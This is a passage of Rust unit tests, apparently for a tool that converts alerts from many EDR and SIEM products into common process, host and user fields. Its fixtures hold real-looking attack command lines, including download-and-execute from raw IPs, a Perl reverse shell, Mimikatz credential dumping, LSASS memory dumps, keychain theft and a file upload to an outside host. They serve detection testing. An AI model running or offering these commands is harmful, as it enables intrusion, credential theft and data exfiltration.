                {"path": "/usr/local/jamf/bin/jamf", "cmdline": "/usr/local/jamf/bin/jamf policy"}, {"path": "/sbin/launchd"}]}});
        let a = from_json(up, "x").unwrap();
        assert_eq!(get(&a, "process.entry_leader.name"), "jamf");
        // Defender for Cloud's Run Command alert: the script is the process.
        let ext = json!({"Script": "net user x P@ss /add", "Run Command Name": "RunPowerShellScript",
            "Client Principal Name": "ext.r@t.onmicrosoft.com", "Client IP Address": "185.220.101.47"});
        let rc = json!({"AlertName": "Suspicious Run Command usage", "SystemAlertId": "s2", "ProviderName": "Azure Security Center",
            "ResourceId": "/subscriptions/1/resourceGroups/r/providers/Microsoft.Compute/virtualMachines/vm-erp-01",
            "ExtendedProperties": ext.to_string(), "Entities": "[]"});
        let a = from_json(rc, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "net user x P@ss /add");
        assert_eq!(get(&a, "process.name"), "powershell.exe");
        assert_eq!(get(&a, "host.name"), "vm-erp-01");
        assert_eq!(get(&a, "source.ip"), "185.220.101.47");
        // Event Threat Detection: a startup script added to an instance, run by its guest agent.
        let etd = json!({"finding": {"name": "f1", "category": "Persistence: GCE Admin Added Startup Script",
            "sourceProperties": {"properties": {"instanceName": "etl-3", "metadataKeyAdded": "startup-script",
                "metadataValue": "#!/bin/bash\ncurl -fsSL http://194.26.29.113/l.sh | bash"}},
            "access": {"principalEmail": "ci@p.iam.gserviceaccount.com", "callerIp": "113.161.72.58"}}});
        let a = from_json(etd, "x").unwrap();
        assert!(
            get(&a, "process.command_line").contains("curl -fsSL http://194.26.29.113/l.sh | bash")
        );
        assert_eq!(
            get(&a, "process.parent.name"),
            "google_metadata_script_runner"
        );
        assert_eq!(get(&a, "user.name"), "root");
        assert_eq!(get(&a, "host.name"), "etl-3");
        // A QRadar row whose parser names the parent's argument count, account and environment.
        let qr = json!({"qid": 1, "qidname_qid": "priv shell", "logsourcetypename_devicetype": "Linux OS",
            "Parent Process Path": "/usr/bin/pkexec", "Parent Process Argument Count": "0", "Parent Process User": "tomcat",
            "Parent Process Environment": "GCONV_PATH=./pwnkit; CHARSET=PWNKIT",
            "UTF8(payload)": "type=SYSCALL msg=audit(1.5:9): syscall=59 ppid=2 pid=3 uid=0 euid=0 comm=\"sh\" exe=\"/usr/bin/bash\" type=EXECVE msg=audit(1.5:9): argc=1 a0=\"/bin/sh\""});
        let a = from_json(json!({"events": [qr]}), "x").unwrap();
        assert_eq!(a.doc["process"]["parent"]["args_count"], json!(0));
        assert_eq!(get(&a, "process.parent.user.name"), "tomcat");
        // A Sentinel incident from the REST API: its alert's custom details are the row.
        let inc = json!({"name": "c4", "type": "Microsoft.SecurityInsights/Incidents", "properties": {"title": "Keychain access",
            "alerts": [{"customDetails": {"DeviceName": ["mbp-9"], "AccountName": ["hw"],
                "ProcessCommandLine": ["/usr/bin/security dump-keychain -d", "/usr/bin/security find-generic-password -wa Chrome Safe Storage"],
                "InitiatingProcessCommandLine": ["/usr/bin/python3 /private/tmp/.s/k.py"]}}]}});
        let a = from_json(inc, "x").unwrap();
        assert!(get(&a, "process.command_line").contains("dump-keychain"));
        assert!(
            get(&a, "process.command_line").contains("\n/usr/bin/security find-generic-password")
        );
        assert_eq!(get(&a, "host.name"), "mbp-9");
        // Wazuh: the correlation's earlier event (`previous_output`) names the parent.
        let w = json!({"rule": {"id": "2"}, "agent": {"name": "plm-2"}, "decoder": {"name": "auditd"},
            "previous_output": "type=SYSCALL msg=audit(1.5:29): syscall=59 ppid=1 pid=20 uid=1004 comm=\"python3.9\" exe=\"/usr/bin/python3.9\" type=EXECVE msg=audit(1.5:29): argc=3 a0=\"python3.9\" a1=\"-c\" a2=\"import os;os.setuid(0)\"",
            "full_log": "type=SYSCALL msg=audit(1.6:34): syscall=59 ppid=20 pid=21 uid=0 euid=0 comm=\"sh\" exe=\"/usr/bin/dash\" type=EXECVE msg=audit(1.6:34): argc=1 a0=\"/bin/sh\"",
            "data": {"audit": {"id": "34", "pid": "21", "ppid": "20", "uid": "0", "euid": "0", "command": "sh", "exe": "/usr/bin/dash", "execve": {"a0": "/bin/sh"}}}});
        let a = from_json(w, "x").unwrap();
        assert_eq!(get(&a, "process.parent.name"), "python3.9");
        assert_eq!(
            get(&a, "process.parent.command_line"),
            "python3.9 -c import os;os.setuid(0)"
        );
    }

    #[test]
    fn session_23_shapes() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // A Cybereason MalOp whose processes are `relatedProcesses` named by `name`, each parent
        // by `parentName`: the newest process is judged, its chain from the same list.
        let cy = json!({"guid": "11.1", "displayName": "sudo", "machines": [{"displayName": "mbp-1", "osType": "OSX"}],
            "detectionTypes": ["Privilege escalation"],
            "rootCauseElements": [{"name": "python3.12", "commandLine": "Python /Users/u/.local/share/.c/sync.py", "parentProcess": "launchd"}],
            "relatedProcesses": [
                {"name": "sh", "commandLine": "/bin/sh -c echo \"$P\" | sudo -S -p '' /bin/bash -c id", "parentName": "python3.12"},
                {"name": "sudo", "commandLine": "sudo -S -p '' /bin/bash -c id", "parentName": "sh"}]});
        let a = from_json(cy, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "sudo -S -p '' /bin/bash -c id"
        );
        assert!(get(&a, "process.parent.command_line").starts_with("/bin/sh -c echo"));
        assert_eq!(
            get(&a, "process.parent.parent.command_line"),
            "Python /Users/u/.local/share/.c/sync.py"
        );
        // Trend Vision One Workbench: an object path on Windows without a program's extension,
        // beside a command line naming another program, is the folder the command worked on.
        let tw = json!({"id": "WB-1", "model": "Run dialog", "alertProvider": "SAE", "workbenchLink": "https://x", "severity": "medium",
            "impactScope": {"entities": [{"entityType": "host", "entityValue": {"name": "WS-1"}}]},
            "indicators": [
                {"id": 1, "type": "command_line", "field": "objectCmd", "value": "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -File \\\\fs\\it$\\a.ps1"},
                {"id": 2, "type": "command_line", "field": "parentCmd", "value": "C:\\WINDOWS\\Explorer.EXE"},
                {"id": 3, "type": "fullpath", "field": "objectFilePath", "value": "C:\\Users\\u\\AppData\\Local\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams"}]});
        let a = from_json(tw, "x").unwrap();
        assert_eq!(
            get(&a, "process.executable"),
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        );
        assert!(get(&a, "file.path").ends_with("\\MSTeams"));
        // CEF parsed with the header and the extension kept apart.
        let cef = json!({"syslog": {"hostname": "ci-1"}, "cef": {"version": "0", "device_vendor": "Linux", "device_product": "auditd",
            "signature_id": "EXECVE", "name": "Outbound SSH"},
            "extension": {"dvchost": "ci-1.corp", "suser": "jenkins", "sproc": "bash", "dproc": "/usr/bin/ssh",
                "cs1Label": "CommandLine", "cs1": "ssh root@10.0.0.5 id", "cs2Label": "ParentCommandLine", "cs2": "bash -c x"}});
        let a = from_json(cef, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "ssh root@10.0.0.5 id");
        assert_eq!(get(&a, "user.name"), "jenkins");
        // TheHive: an abbreviated auditd EXECVE record quoted in the description.
        let th = json!({"_type": "Alert", "sourceRef": "1.2", "title": "history tampering",
            "description": "**auditd:** `type=EXECVE a0=\"bash\" a1=\"-c\" a2=\"unset HISTFILE; id\"` uid=1107 exe=/usr/bin/bash",
            "observables": [{"dataType": "hostname", "data": "rpt-1"}]});
        let a = from_json(th, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "bash -c 'unset HISTFILE; id'"
        );
        assert_eq!(get(&a, "process.executable"), "/usr/bin/bash");
        // A SentinelOne threat without arguments: its process tree names the command and the
        // parent; `agentOsName` the operating system.
        let s1 = json!({"id": "9", "threatInfo": {"threatName": "bash", "filePath": "/bin/bash", "originatorProcess": "zsh", "processUser": "u"},
            "agentRealtimeInfo": {"agentComputerName": "MBP-1", "agentOsName": "macOS Sequoia"},
            "processTree": [{"name": "Terminal"}, {"name": "zsh", "cmdline": "-zsh"},
                {"name": "bash", "path": "/bin/bash", "cmdline": "/bin/bash -c x"}, {"name": "git", "cmdline": "git init"}]});
        let a = from_json(s1, "x").unwrap();
        // (what the threat's process started, `git init`, follows as a branch)
        assert_eq!(get(&a, "process.command_line"), "/bin/bash -c x\ngit init");
        assert_eq!(get(&a, "process.parent.command_line"), "-zsh");
        assert!(get(&a, "host.os.name").starts_with("macOS"));
        // A flat record naming the grandparent (Graylog's GELF fields from an audit pipeline).
        let gelf = json!({"version": "1.1", "host": "web-1", "short_message": "auditd: EXECVE", "_exe": "/usr/bin/bash",
            "_cmdline": "/bin/bash -i", "_parent_exe": "/usr/bin/vim.basic", "_parent_cmdline": "vim /etc/hosts",
            "_grandparent_exe": "/usr/bin/sudo", "_grandparent_cmdline": "sudo vim /etc/hosts"});
        let a = from_json(gelf, "x").unwrap();
        assert_eq!(
            get(&a, "process.parent.parent.command_line"),
            "sudo vim /etc/hosts"
        );
        assert_eq!(get(&a, "process.parent.parent.name"), "sudo");
        // A Cybereason element export listing its `processes`, each parent an object by name.
        let cy = json!({"guidString": "1.2", "simpleValues": {}, "elementValues": {}, "processes": [
            {"name": "osascript", "commandLine": "osascript -e 'do shell script \"/bin/bash /Users/Shared/.pm/i.sh\" with administrator privileges'",
             "parentProcess": {"name": "App"}},
            {"name": "bash", "imageFilePath": "/bin/bash", "commandLine": "/bin/bash /Users/Shared/.pm/i.sh", "parentProcess": {"name": "security_authtrampoline"}},
            {"name": "dscl", "commandLine": "dscl . -create /Users/_x IsHidden 1", "parentProcess": {"name": "bash", "pid": 3}}]});
        let a = from_json(cy, "x").unwrap();
        let all = get(&a, "process.command_line");
        assert!(all.contains("dscl . -create /Users/_x IsHidden 1"), "{all}");
        // Falcon's connection with the name the export resolved.
        let fa = json!({"composite_id": "c:ind:1", "device": {"hostname": "MBP-1", "platform_name": "Mac"},
            "behaviors": [{"filename": "sh", "cmdline": "sh -s", "user_name": "u", "parent_details": {"parent_cmdline": "-zsh"},
                "network_accesses": [{"remote_address": "18.160.10.96", "remote_port": 443, "domain": "sh.rustup.rs"}]}]});
        let a = from_json(fa, "x").unwrap();
        assert_eq!(get(&a, "destination.domain"), "sh.rustup.rs");
        // Defender's AlertInfo with its AlertEvidence rows: the impacted process is judged, its
        // parent found by the process id its AdditionalFields name.
        let ae = json!({"AlertInfo": {"AlertId": "da1", "Title": "Possible credential dumping", "Category": "CredentialAccess"},
            "AlertEvidence": [
                {"EntityType": "Machine", "EvidenceRole": "Impacted", "DeviceName": "fs02"},
                {"EntityType": "Process", "EvidenceRole": "Related", "FileName": "WmiPrvSE.exe", "ProcessCommandLine": "wmiprvse.exe -secured -Embedding",
                 "AdditionalFields": "{\"ProcessId\":3916}"},
                {"EntityType": "Process", "EvidenceRole": "Related", "FileName": "cmd.exe", "ProcessCommandLine": "cmd.exe /Q /c rundll32.exe comsvcs.dll, MiniDump 712 x full",
                 "AdditionalFields": "{\"ProcessId\":11408,\"ParentProcessId\":3916}"},
                {"EntityType": "Process", "EvidenceRole": "Impacted", "FileName": "rundll32.exe", "ProcessCommandLine": "rundll32.exe comsvcs.dll, MiniDump 712 x full",
                 "AdditionalFields": "{\"ProcessId\":6620,\"ParentProcessId\":11408}"},
                {"EntityType": "File", "EvidenceRole": "Impacted", "FileName": "x"}]});
        let all = from_json_expanded(ae, "x");
        let a = all[0].as_ref().unwrap();
        assert_eq!(
            get(a, "process.command_line"),
            "rundll32.exe comsvcs.dll, MiniDump 712 x full"
        );
        assert!(get(a, "process.parent.command_line").starts_with("cmd.exe /Q /c"));
        // A Cybereason MalOp whose processes sit under `elementValues`, its children's command
        // lines as plain strings.
        let mo = json!({"malopGuid": "11.9", "detectionType": "ABUSE_OF_REMOTE_ACCESS_TOOL", "machines": [{"name": "ws-1", "osType": "WINDOWS"}],
            "elementValues": {"resultIdToElementDataMap": {"g1": {
                "simpleValues": {"elementDisplayName": {"values": ["cmd.exe"]}, "commandLine": {"values": ["cmd.exe /c run.cmd"]}},
                "elementValues": {"parentProcess": {"elementValues": [{"guid": "g0", "name": "ScreenConnect.ClientService.exe"}]},
                    "children": {"elementValues": [{"name": "net.exe", "commandLine": "net user x y /add"}]}}}}}});
        let a = from_json(mo, "x").unwrap();
        let cmd = get(&a, "process.command_line");
        assert!(
            cmd.starts_with("cmd.exe /c run.cmd") && cmd.contains("net user x y /add"),
            "{cmd}"
        );
    }

    #[test]
    fn session_24_shapes() {
        let get = |a: &Alert, p: &str| get_str(&a.doc, p).unwrap_or_default().to_owned();
        // A Cybereason MalOp whose processes name their parent by `parent`: the newest is judged.
        let cy = json!({"guidString": "11.2", "detectionTypes": ["Malicious use of an interpreter"],
            "machines": [{"displayName": "ws-1", "osType": "WINDOWS"}],
            "processes": [
                {"elementName": "setup.exe", "commandLine": "\"C:\\Users\\u\\Downloads\\setup.exe\"", "parent": "explorer.exe"},
                {"elementName": "autoit3.exe", "commandLine": "\"C:\\Users\\u\\AppData\\Local\\Temp\\x\\AutoIt3.exe\" C:\\Users\\u\\AppData\\Local\\Temp\\x\\s.a3x", "parent": "setup.exe"}]});
        let a = from_json(cy, "x").unwrap();
        assert!(get(&a, "process.command_line").contains("AutoIt3.exe"));
        assert!(get(&a, "process.parent.command_line").contains("setup.exe"));
        // … and whose processes after the root cause are `suspiciousElements`.
        let cy = json!({"guid": "11.3", "detectionTypes": ["Suspicious download and execution"],
            "machines": [{"displayName": "mba-1", "osType": "OSX"}],
            "rootCauseElements": [{"elementType": "Process", "name": "applet", "commandLine": "/Users/u/Downloads/I.app/Contents/MacOS/applet", "parentProcess": "launchd"}],
            "suspiciousElements": [
                {"elementType": "Process", "name": "sh", "commandLine": "sh -c curl -o /tmp/.i http://1.2.3.4/i && /tmp/.i", "parentProcess": "applet"},
                {"elementType": "Connection", "name": "10.0.0.1:1 > 1.2.3.4:80", "remoteAddress": "1.2.3.4"}]});
        let a = from_json(cy, "x").unwrap();
        assert!(get(&a, "process.command_line").starts_with("sh -c curl"));
        assert!(get(&a, "process.parent.command_line").ends_with("MacOS/applet"));
        // Trend Workbench: a URL indicator under `objectCmd` is what the command fetched, not
        // the process.
        let tw = json!({"id": "WB-2", "workbenchLink": "https://x", "impactScope": {"entities": []},
            "indicators": [
                {"id": 1, "type": "command_line", "field": "processCmd", "value": "\"C:\\Windows\\system32\\cmd.exe\" /c certutil -urlcache -f http://1.2.3.4/a.txt a.exe"},
                {"id": 2, "type": "command_line", "field": "parentCmd", "value": "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.X\\MSSQL\\Binn\\sqlservr.exe\" -sX"},
                {"id": 3, "type": "url", "field": "objectCmd", "value": "http://1.2.3.4/a.txt"}]});
        let a = from_json(tw, "x").unwrap();
        assert!(get(&a, "process.command_line").contains("certutil"));
        assert!(get(&a, "process.parent.executable").ends_with("sqlservr.exe"));
        // Google SecOps UDM: the target's file, the outbound address under `about`, techniques
        // in `category_details`.
        let udm = json!({"metadata": {"event_type": "PROCESS_LAUNCH", "product_log_id": "p1"},
            "principal": {"hostname": "h1", "process": {"command_line": "/bin/sh -c cd /dev/shm/.x && perl ./k", "file": {"full_path": "/usr/bin/dash"}}},
            "target": {"process": {"command_line": "perl ./k", "file": {"full_path": "/usr/bin/perl"}}, "file": {"full_path": "/dev/shm/.x/k"}},
            "about": [{"ip": ["89.44.9.217"], "port": 6667}],
            "security_result": [{"rule_name": "r", "category_details": ["T1059.006", "not-a-technique"]}]});
        let a = from_json(udm, "x").unwrap();
        assert_eq!(get(&a, "file.path"), "/dev/shm/.x/k");
        assert_eq!(get(&a, "destination.ip"), "89.44.9.217");
        assert_eq!(a.doc.pointer("/destination/port"), Some(&json!(6667)));
        assert_eq!(
            a.doc.pointer("/threat/technique/id"),
            Some(&json!(["T1059.006"]))
        );
        // osquery: the login from the environment when the row names no user; the parent's
        // signature.
        let oq = json!({"name": "pack_p", "hostIdentifier": "db1", "unixTime": 1, "action": "added",
            "columns": {"path": "/usr/bin/bash", "cmdline": "/bin/sh -c pg_dump x", "uid": "26", "euid": "26",
                "env": "SHELL=/bin/sh LOGNAME=postgres USER=postgres", "parent_path": "/usr/sbin/crond", "parent_team_id": "ABCDE12345"}});
        let a = from_json(oq, "x").unwrap();
        assert_eq!(get(&a, "user.name"), "postgres");
        assert_eq!(
            get(&a, "process.parent.code_signature.team_id"),
            "ABCDE12345"
        );
        // A setuid program's environment names who started it, not its user.
        let oq = json!({"name": "pack_p", "hostIdentifier": "db1", "unixTime": 1, "action": "added",
            "columns": {"path": "/usr/bin/bash", "cmdline": "bash -p", "uid": "1000", "euid": "26", "env": "USER=alice"}});
        assert_eq!(get(&from_json(oq, "x").unwrap(), "user.name"), "");
        // Sophos Central's SIEM events: the detection's process under `data.process` (with its
        // parent's command line), and what AMSI was shown.
        let so = json!({"id": "s1", "type": "Event::Endpoint::Threat::Detected", "customer_id": "c", "location": "PKR-1",
            "name": "Malicious behavior detected in 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' (AMSI/PsDlIEX-A)",
            "data": {"process": {"path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "cmdline": "powershell -ep bypass -f c:/windows/temp/s.ps1",
                "parent_path": "C:\\Windows\\System32\\wsmprovhost.exe", "parent_cmdline": "C:\\Windows\\system32\\wsmprovhost.exe -Embedding"},
                "amsi_content": "iex ((New-Object Net.WebClient).DownloadString('https://x.example/i.ps1'))"}});
        let a = from_json(so, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "powershell -ep bypass -f c:/windows/temp/s.ps1"
        );
        assert_eq!(
            get(&a, "process.parent.command_line"),
            "C:\\Windows\\system32\\wsmprovhost.exe -Embedding"
        );
        assert!(get(&a, "powershell.file.script_block_text").starts_with("iex"));
        // A SentinelOne threat without its arguments: the command an indicator quotes.
        let s1 = json!({"threatInfo": {"threatId": "1", "threatName": "python3.10", "filePath": "/usr/bin/python3.10", "processUser": "k", "originatorProcess": "bash"},
            "agentRealtimeInfo": {"agentComputerName": "a1", "agentOsType": "linux"},
            "indicators": [{"category": "Privilege Escalation", "description": "Process changed its UID to root via setuid capability: python3.10 -c 'import os;os.setuid(0)'"}]});
        let a = from_json(s1, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "python3.10 -c 'import os;os.setuid(0)'"
        );
        // QRadar: a truncated auditd record loses to the longer parsed `Command`.
        let qr = json!({"events": [{"qid": 1, "LOGSOURCENAME(logsourceid)": "LinuxServer @ j1", "username": "jira",
            "Process Name": "perl", "Process Path": "/usr/bin/perl", "Command": "perl -e 'use Socket;$i=\"5.1.8.6\";connect(S);exec(\"/bin/sh -i\");'",
            "Parent Process Name": "sh",
            "payload": "type=EXECVE msg=audit(1.3:4): argc=3 a0=\"perl\" a1=\"-e\" a2=75736520536F636B65743B"}]});
        let a = from_json(qr, "x").unwrap();
        assert!(get(&a, "process.command_line").contains("/bin/sh -i"));
        // Datadog's v2 signal: the agent's event under `custom.attributes`.
        let dd = json!({"id": "AQ", "type": "signal", "attributes": {"timestamp": 1, "message": "m", "tags": [],
            "custom": {"title": "t", "workflow": {"rule": {"name": "r"}}, "attributes": {"host": "web-1",
                "process": {"executable": {"path": "/bin/dash"}, "args": ["-c", "wget -q http://1.2.3.4/x -O .c && ./.c"],
                    "parent": {"executable": {"path": "/usr/sbin/php-fpm8.2"}}}}}}});
        let a = from_json(dd, "x").unwrap();
        assert!(get(&a, "process.command_line").contains("wget -q"));
        assert_eq!(get(&a, "process.parent.executable"), "/usr/sbin/php-fpm8.2");
        // QRadar rows with renamed columns (magnitude and credibility beside them), and a
        // WinCollect line cut short losing to the parsed command line.
        let qr = json!({"events": [{"event_name": "Process Create", "log_source": "Sysmon @ S1", "magnitude": 5, "credibility": 5,
            "Process Name": "cscript.exe", "Parent Process Name": "cmd.exe",
            "payload": "<13>Aug 19 03:00:14 S1 AgentDevice=WindowsLog\tSource=Microsoft-Windows-Sysmon\tEventID=1\tMessage=Process Create:  Image: C:\\Windows\\System32\\cscript.exe  CommandLine: cscript.exe //NoLogo a.vbs  ParentImage: C:\\Windows\\System32\\cmd.exe"}]});
        let a = from_json(qr, "x").unwrap();
        assert_eq!(
            get(&a, "process.command_line"),
            "cscript.exe //NoLogo a.vbs"
        );
        let qr = json!({"events": [{"qid": 1, "logsourcename(logsourceid)": "WindowsAuthServer @ PW-1", "EventID": "4688",
            "Process Name": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "Process CommandLine": "powershell.exe -c \"IEX (iwr http://10.0.0.5/Invoke-Mimikatz.ps1); Invoke-Mimikatz -Command 'sekurlsa::logonpasswords'\"",
            "payload": "<13>Dec 08 13:32:10 PW-1 AgentDevice=WindowsLog\tAgentLogFile=Security\tSource=Microsoft-Windows-Security-Auditing\tEventID=4688\tMessage=A new process has been created. New Process Name: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe Process Command Line: powershell.exe -c \"IEX (iwr http://10.0.0.5/Invoke-Mimikatz.ps1); Invoke-Mimikatz ...\""}]});
        let a = from_json(qr, "x").unwrap();
        assert!(get(&a, "process.command_line").contains("sekurlsa::logonpasswords"));
        // ESET PROTECT's HIPS event as LEEF: the application started its target.
        let eset = json!({"message": "<14>1 2025-03-11T10:44:21Z eset-1 ERAServer 2144 - - LEEF:1.0|ESET|Protect|11.1|HipsAggregated_Event|cat=ESET HIPS\thostname=WKS-1.corp.example\taccountName=CORP\\\\pl\tapplication=C:\\\\Windows\\\\System32\\\\wscript.exe\toperation=Start new application\ttarget=C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\tprocess_commandline=C:\\\\Windows\\\\System32\\\\wscript.exe \"E:\\\\Invoice.js\""});
        let a = from_json(eset, "x").unwrap();
        assert!(get(&a, "process.executable").ends_with("powershell.exe"));
        assert!(get(&a, "process.parent.command_line").contains("E:\\Invoice.js"));
        assert_eq!(get(&a, "host.name"), "WKS-1.corp.example");
        // Carbon Black EDR's CEF: the process in `msg` as key:value pairs; a whole path as `fname`.
        let cb = json!({"msg": "CEF:0|Carbon Black|CB Response|7.8|reason=w|watchlist hit|10|dproc=bash fname=/bin/bash dhost=MBP-1 duser=mf msg=group:Macs process_name:bash cmdline:bash -c echo x | sudo -S dscl . -append /Groups/admin GroupMembership t parent_name:upd parent_path:/Users/Shared/.local/bin/upd username:mf watchlist_id:412"});
        let a = from_json(cb, "x").unwrap();
        assert_eq!(get(&a, "process.executable"), "/bin/bash");
        assert_eq!(
            get(&a, "process.command_line"),
            "bash -c echo x | sudo -S dscl . -append /Groups/admin GroupMembership t"
        );
        assert_eq!(
            get(&a, "process.parent.executable"),
            "/Users/Shared/.local/bin/upd"
        );
        // NXLog's `EventXML`, and Splunk's `_raw` XML beside its extractions: the event's data.
        let xml = "<Event><System><EventID>4688</EventID><Channel>Security</Channel><Computer>FS-3</Computer></System><EventData><Data Name='NewProcessName'>C:\\Windows\\System32\\cmd.exe</Data><Data Name='CommandLine'>cmd.exe /c whoami</Data><Data Name='ParentProcessName'>C:\\Windows\\PSEXESVC.exe</Data></EventData></Event>";
        let nx = json!({"EventTime": "2025-07-22 03:47:33", "Hostname": "FS-3", "EventID": 4688, "SourceName": "Microsoft-Windows-Security-Auditing", "EventXML": xml});
        let a = from_json(nx, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "cmd.exe /c whoami");
        assert!(get(&a, "process.parent.executable").ends_with("PSEXESVC.exe"));
        let sp = json!({"preview": false, "offset": 0, "result": {"_raw": xml, "host": "FS-3", "sourcetype": "XmlWinEventLog", "EventCode": "4688"}});
        let a = from_json(sp, "x").unwrap();
        assert_eq!(get(&a, "process.command_line"), "cmd.exe /c whoami");
        // Santa: an unsigned program (no signature, no code-signing flags).
        let sa = json!({"machine_id": "M1", "event_time": "2026-01-28T20:41:55Z", "execution": {
            "instigator": {"id": {"pid": 1}, "executable": {"path": "/bin/zsh"}, "effective_user": {"uid": 501, "name": "ah"}},
            "target": {"id": {"pid": 2}, "executable": {"path": "/Users/ah/Downloads/F/fi"}, "cs_flags": 0, "is_platform_binary": false, "effective_user": {"uid": 501, "name": "ah"}},
            "args": ["./fi", "--silent"], "decision": "DECISION_ALLOW", "quarantine_url": "https://dl.example.net/f.zip"}});
        let a = from_json(sa, "x").unwrap();
        assert_eq!(
            a.doc.pointer("/process/code_signature/exists"),
            Some(&json!(false))
        );
        assert_eq!(get(&a, "file.origin_url"), "https://dl.example.net/f.zip");
        // CrowdStrike Event Streams: an empty command line leaves the program's path.
        let cs = json!({"metadata": {"eventType": "EppDetectionSummaryEvent"}, "event": {"Hostname": "h1", "Name": "PrivilegeEscalationPkexec",
            "FileName": "pkexec", "FilePath": "/usr/bin", "CommandLine": "", "UserName": "root",
            "ParentImageFileName": "/dev/shm/.x/pk", "ParentCommandLine": "./pk"}});
        let a = from_json(cs, "x").unwrap();
        assert_eq!(get(&a, "process.executable"), "/usr/bin/pkexec");
        assert_eq!(get(&a, "process.parent.executable"), "/dev/shm/.x/pk");
        // Cybereason: `childProcesses` naming no parent are the root cause's children.
        let cy = json!({"guid": "11.4", "detectionTypes": ["Lateral movement"], "machines": [{"displayName": "m1", "osType": "OS_X"}],
            "rootCauseElements": [{"elementType": "Process", "name": "python3.11", "commandLine": "python3.11 /Users/Shared/.agent/.s.py", "parentProcess": "launchd"}],
            "childProcesses": [{"name": "sh", "commandLine": "/bin/sh -c ssh -o StrictHostKeyChecking=no u@10.0.0.5 'curl -s http://10.0.0.9/s | bash'"}]});
        let a = from_json(cy, "x").unwrap();
        assert!(get(&a, "process.command_line").starts_with("/bin/sh -c ssh"));
        assert!(get(&a, "process.parent.command_line").contains(".agent/.s.py"));
        // Uptycs: `child_commands` follow the process's command line.
        let up = json!({"id": "u1", "assetId": "a1", "code": "X", "description": "d", "key": "process_events", "value": "/bin/bash /private/tmp/.s/c.sh",
            "upt_asset": {"host_name": "m1", "os": "Darwin"},
            "metadata": {"pid": 1, "path": "/bin/bash", "cmdline": "/bin/bash /private/tmp/.s/c.sh", "username": "ab",
                "child_commands": ["security find-generic-password -wa Chrome", "curl -s -F f=@/private/tmp/.s/o.zip http://1.2.3.4/upload"]}});
        let a = from_json(up, "x").unwrap();
        assert!(get(&a, "process.command_line").contains("find-generic-password"));
        // Sophos XDR detections: `raw` as a list, the grandparent as `gparent_…`, the working
        // directory.
        let sx = json!({"id": "d1", "detectionRule": "R", "device": {"entity": "WS-1"}, "time": "2025-12-15T13:02:48Z",
            "raw": [{"meta_hostname": "WS-1", "path": "C:\\Windows\\SysWOW64\\cscript.exe", "cmd_line": "cscript.exe //B ..\\..\\Tools\\a.vbs",
                "cwd": "C:\\Program Files (x86)\\Tanium\\Tanium Client\\Downloads\\Action_1\\", "username": "NT AUTHORITY\\SYSTEM",
                "parent_path": "C:\\Windows\\SysWOW64\\cmd.exe", "parent_cmd_line": "cmd.exe /d /c cscript.exe //B ..\\..\\Tools\\a.vbs",
                "gparent_path": "C:\\Program Files (x86)\\Tanium\\Tanium Client\\TaniumClient.exe", "gparent_cmd_line": "TaniumClient.exe --service"}]});
        let a = from_json(sx, "x").unwrap();
        assert!(get(&a, "process.parent.parent.executable").ends_with("TaniumClient.exe"));
        assert!(get(&a, "process.working_directory").ends_with("Action_1\\"));
        // A `-c` script holding single quotes is shown in double quotes, not spliced.
        assert_eq!(
            edr::shell_join(&["sh", "-c", "'/usr/bin/wkhtmltopdf' '--quiet' '/tmp/a.html'"]),
            "sh -c \"'/usr/bin/wkhtmltopdf' '--quiet' '/tmp/a.html'\""
        );
        assert_eq!(
            edr::shell_join(&["sh", "-c", "echo '$x'"]),
            "sh -c 'echo '\\''$x'\\'''"
        );
        // Cortex XDR: an interpreter that started a program with no arguments is judged, the
        // program following its command.
        let cx = json!({"external_id": "x1", "host_name": "LT-1", "events": [{"actor_process_image_path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "actor_process_command_line": "powershell.exe -nop -w hidden -c \"iwr http://1.2.3.4/r.exe -OutFile $env:APPDATA\\w.exe; Start-Process $env:APPDATA\\w.exe\"",
            "action_process_image_path": "C:\\Users\\u\\AppData\\Roaming\\w.exe", "action_process_image_command_line": "\"C:\\Users\\u\\AppData\\Roaming\\w.exe\"",
            "causality_actor_process_image_path": "C:\\Windows\\System32\\wscript.exe", "causality_actor_process_command_line": "wscript.exe C:\\Users\\u\\Downloads\\i.js"}]});
        let a = from_json(cx, "x").unwrap();
        assert!(get(&a, "process.command_line").contains("iwr http://1.2.3.4/r.exe"));
        assert!(get(&a, "process.command_line").contains("w.exe\""));
        assert!(get(&a, "process.parent.executable").ends_with("wscript.exe"));
        // Uptycs: the row under `metadata.process_events`, the host from `assetHostName`.
        let up = json!({"id": "u2", "assetId": "a2", "assetHostName": "lib-1", "code": "C", "key": "path", "value": "/usr/bin/perl",
            "metadata": {"process_events": {"pid": 5, "path": "/usr/bin/perl", "cmdline": "/usr/sbin/apache2 -k start", "cwd": "/tmp/.ICE-unix/.p", "username": "koha"}}});
        let a = from_json(up, "x").unwrap();
        assert_eq!(get(&a, "process.executable"), "/usr/bin/perl");
        assert_eq!(
            get(&a, "process.command_line"),
            "/usr/sbin/apache2 -k start"
        );
        assert_eq!(get(&a, "host.name"), "lib-1");
        // QRadar: the parent's and grandparent's commands from the parsed columns beside a
        // whole auditd record.
        let qr = json!({"offense_id": 1, "qid": 5, "LOGSOURCENAME(logsourceid)": "LinuxServer @ r1", "username": "rep",
